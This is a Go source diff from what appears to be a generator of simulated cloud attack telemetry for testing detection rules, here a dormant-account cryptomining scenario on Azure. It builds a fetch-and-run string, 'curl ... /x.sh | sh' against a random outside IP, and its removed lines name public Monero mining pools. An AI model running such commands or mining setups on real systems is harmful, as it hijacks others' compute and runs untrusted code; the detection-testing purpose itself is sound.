@@ -201,7 +201,7 @@ func (g *gen) dormantWake(at time.Time) Attack {
 		now = g.arm(now.Add(10*time.Second+g.jitter(20*time.Second)), ua, opVMStart, rid, armOpts{Loc: vloc, Accept: true})
 		a.Resources = append(a.Resources, strings.ToLower(rid))
 	}
-	pool := pick(g.r, []string{"gulf.moneroocean.stream", "pool.supportxmr.com", "xmr-eu1.nanopool.org"})
+	pool := pick(g.r, listedPools)
 	ep := g.poolEndpoint(pool, 0)
 	net := g.attackNetwork(now, a.Start, ua, "ml-training", "train-nd96", loc)
 	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/x.sh | sh"
@@ -226,10 +226,7 @@ func (g *gen) dormantWake(at time.Time) Attack {
 		"azure.compute.compute_started.first_by_principal", "azure.compute.compute_started.many_machines",
 		"azure.compute.run_command.first_by_principal", "azure.compute.run_command.many_machines",
 	}
-	a.minerProcess(g.agents, kit)
-	a.expectDefender(g.agents, "azure.defender.mining_alert")
-	a.poolLookup(ep, resolved)
-	a.poolFlow(ep)
+	a.mined(g.agents, kit, ep, resolved)
 	a.addNote("nothing is created: the rules on creates, quota and drivers have nothing to read")
 	return a
 }
